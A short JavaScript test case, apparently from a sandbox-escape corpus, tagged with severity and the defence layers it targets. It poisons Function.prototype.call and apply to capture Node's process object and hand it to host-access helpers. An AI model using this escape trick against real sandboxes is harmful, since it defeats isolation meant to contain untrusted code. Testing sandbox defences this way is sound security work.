// technique: the methods of functions are replaced, and called on the process object
// family: B
// severity: H
// layers: policy, mount_namespace, landlock
const { call, apply } = Function.prototype;
readHost(() => {
  let found;
  Function.prototype.call = function (first, ...rest) { if (first && first.argv0) found ??= first; return Reflect.apply(this, first, rest); };
  Function.prototype.apply = function (first, rest) { if (first && first.argv0) found ??= first; return Reflect.apply(this, first, rest ?? []); };
  try {
    process.stdout;
    process.on('x', () => {});
    process.on.call(process, 'x', () => {});
    process.emit('x');
  } finally { Object.assign(Function.prototype, { call, apply }); }
  return loaderOf(found);
});
